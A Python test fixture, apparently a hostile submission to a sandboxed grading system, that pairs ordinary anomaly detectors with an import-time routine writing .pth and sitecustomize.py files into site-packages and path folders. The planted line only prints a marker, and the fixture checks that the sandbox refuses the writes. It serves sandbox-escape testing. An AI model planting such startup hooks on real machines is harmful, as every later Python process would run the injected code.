"""Attack: plant code that every later Python process on the machine would run.

At import it writes EVILZOO_writes_pth.pth (a .pth line starting with
`import` runs at every interpreter start) into every site-packages folder
(site.getsitepackages(), the user site, every sys.path folder) and a
sitecustomize.py into the worker package's folder, which is on every worker's
PYTHONPATH. Had one landed in a shared folder, the grader and every later
student's worker would print EVILZOO-pth-ran at start-up, and could do
anything else.

Expected: the interpreter, the virtualenv and the worker package are
read-only views in the sandbox; only its private home and /tmp take the files,
and they vanish with it. Nothing appears on the host. The import-time report
(its output) lists what was refused; every check ends as the honest control's.
"""
import os
import site
import sys

import numpy as np

PLANT = "import sys; sys.stderr.write('EVILZOO-pth-ran\\n')\n"


def _plant():
    if os.getpid() != 1:  # never outside a sandbox: it would plant code in this machine's Python
        raise RuntimeError("EVILZOO writes_pth: not in a sandbox (pid != 1); refusing to attack this machine")
    folders = {*site.getsitepackages(), site.getusersitepackages(), *(p for p in sys.path if os.path.isdir(p or "."))}
    targets = [os.path.join(f or ".", "EVILZOO_writes_pth.pth") for f in sorted(folders)]
    targets += ["/labmark/lib/sitecustomize.py", "/labmark/lib/labmark_worker/sitecustomize.py"]
    written, refused = [], []
    for path in targets:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(PLANT)
            written.append(path)
        except OSError as exc:
            refused.append(f"{path} ({exc.strerror})")
    print(f"EVILZOO writes_pth: written {written}; refused {refused}", flush=True)


_plant()


def _residual(series, period):
    series = np.asarray(series, dtype=float)
    phase = np.arange(len(series)) % period
    profile = np.array([np.median(series[phase == p]) for p in range(period)])
    return series - profile[phase]


def zscore_detector(series, period):
    r = _residual(series, period)
    spread = np.median(np.abs(r - np.median(r))) * 1.4826
    if spread == 0:
        return np.zeros(len(r), dtype=bool)
    return np.abs(r - np.median(r)) / spread > 4


def isolation_forest_detector(series, period, seed):
    from sklearn.ensemble import IsolationForest

    r = _residual(series, period).reshape(-1, 1)
    return IsolationForest(contamination=0.05, random_state=seed).fit_predict(r) == -1


def one_class_svm_detector(series, period, seed):
    from sklearn.svm import OneClassSVM

    r = _residual(series, period)
    r = ((r - r.mean()) / (r.std() or 1.0)).reshape(-1, 1)
    return OneClassSVM(nu=0.05, gamma="scale").fit_predict(r) == -1
